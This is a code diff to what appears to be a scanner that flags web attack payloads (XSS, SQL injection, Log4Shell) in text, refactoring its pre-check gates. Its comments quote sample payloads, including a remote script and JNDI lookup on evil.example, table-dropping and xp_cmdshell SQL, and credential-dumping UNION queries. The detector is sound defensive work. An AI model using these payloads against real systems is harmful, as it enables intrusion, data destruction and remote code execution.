@@ -16,13 +16,20 @@ import { evidenceOf, shift } from './hit'
 
 interface WebPayload {
   /** A cheap test a chunk must pass before `re` is tried (most chunks hold no tag, no SQL keyword, no `${`). */
-  gate: RegExp
+  gate: (body: string) => boolean
   re: RegExp
   severity: Severity
   what: string
 }
 
 const HTML_GATE = /<[a-z]|javascript:/i
+/**
+ * What every match of the script payloads holds: a script tag, an event handler's attribute or a `javascript:` URL. A
+ * page or an e-mail with an address in angle brackets passes the HTML gate, and the payloads' expressions, which may
+ * start at any line, cost 2 % of such a scan.
+ */
+const SCRIPT_GATE = /<script|\son[a-z]{3,20}\s*=|javascript\s*:/i
+const SCRIPT_PAYLOAD = (body: string): boolean => HTML_GATE.test(body) && SCRIPT_GATE.test(body)
 const SQL_GATE = /['"]\s*\)?\s*(?:;|OR\b|AND\b|UNION\b|\|\|)|xp_cmdshell|WAITFOR/i
 
 /** The session read (not set: a consent banner writes `document.cookie = "consent=yes"`). */
@@ -45,7 +52,7 @@ const PAYLOADS: WebPayload[] = [
     ),
     severity: 'high',
     what: 'script injected into HTML that takes the session or fetches code',
-    gate: HTML_GATE,
+    gate: SCRIPT_PAYLOAD,
   },
   {
     // "><script src=https://evil.example/x.js></script>: an attribute closed outside any tag, then a remote script
@@ -53,7 +60,7 @@ const PAYLOADS: WebPayload[] = [
     re: /(?<!<[^<>]{0,1000})["']\s*\/?>\s*<script\b[^>]{0,200}\bsrc\s*=/gi,
     severity: 'high',
     what: 'an attribute closed outside any tag and a remote script loaded',
-    gate: /<script/i,
+    gate: (body) => /<script/i.test(body),
   },
   {
     // <script>alert(1)</script>, <img src=x onerror=alert(document.domain)>, javascript:alert(1): the hole shown
@@ -63,21 +70,21 @@ const PAYLOADS: WebPayload[] = [
     ),
     severity: 'medium',
     what: 'a script probe injected into HTML',
-    gate: HTML_GATE,
+    gate: SCRIPT_PAYLOAD,
   },
   {
     // '; DROP TABLE users; --   "); DELETE FROM accounts --   1; EXEC xp_cmdshell('whoami')
     re: /['"]\s*\)?\s*;\s*(?:DROP\s+(?:TABLE|DATABASE|SCHEMA)|DELETE\s+FROM|TRUNCATE\s+(?:TABLE\s+)?\w|ALTER\s+TABLE|UPDATE\s+\w+\s+SET|INSERT\s+INTO|SHUTDOWN\b|EXEC(?:UTE)?\s)|\bxp_cmdshell\b/gi,
     severity: 'high',
     what: 'SQL that breaks out of a value and changes the database',
-    gate: SQL_GATE,
+    gate: (body) => SQL_GATE.test(body),
   },
   {
     // ' OR '1'='1   " or ""="   ' OR 1=1 --   ' UNION SELECT username, password FROM users --   ' AND SLEEP(5)--
     re: /['"]\s*\)?\s*(?:OR|\|\|)\s+['"]?(\w{1,10})['"]?\s*=\s*['"]?\1\b|['"]\s*\)?\s*(?:OR|AND)\s+['"]{2}\s*=\s*['"]|['"]\s*\)?\s*UNION\s+(?:ALL\s+)?SELECT\b|['"]\s*\)?\s*(?:AND|OR|;)\s+(?:SLEEP|BENCHMARK|pg_sleep)\s*\(\s*\d|['"]\s*\)?\s*;?\s*WAITFOR\s+DELAY\s+['"]/gi,
     severity: 'medium',
     what: 'SQL that breaks out of a value',
-    gate: SQL_GATE,
+    gate: (body) => SQL_GATE.test(body),
   },
   {
     // ${jndi:ldap://evil.example/a}, ${${lower:j}ndi:rmi://…}: a lookup that Log4j resolves and loads code from (not a
@@ -85,7 +92,7 @@ const PAYLOADS: WebPayload[] = [
     re: /\$\{jndi:|\$\{(?=[jndi]{0,3}\$\{)(?:\$\{[^}]{0,30}\}|[jndi]){2,12}:(?:\$\{[^}]{0,30}\}|[a-z]){2,10}:\/\//gi,
     severity: 'high',
     what: 'a JNDI lookup (Log4Shell)',
-    gate: /\$\{/,
+    gate: (body) => body.includes('${'),
   },
 ]
 
@@ -106,7 +113,7 @@ export function webPayloadHits(chunk: Chunk, text: string): RuleHit[] {
   const hits: RuleHit[] = []
   const taken: Array<[number, number]> = []
   for (const payload of PAYLOADS) {
-    if (!payload.gate.test(body)) continue
+    if (!payload.gate(body)) continue
     payload.re.lastIndex = 0
     let count = 0
     for (let m = payload.re.exec(body); m && count < 32; m = payload.re.exec(body), count++) {
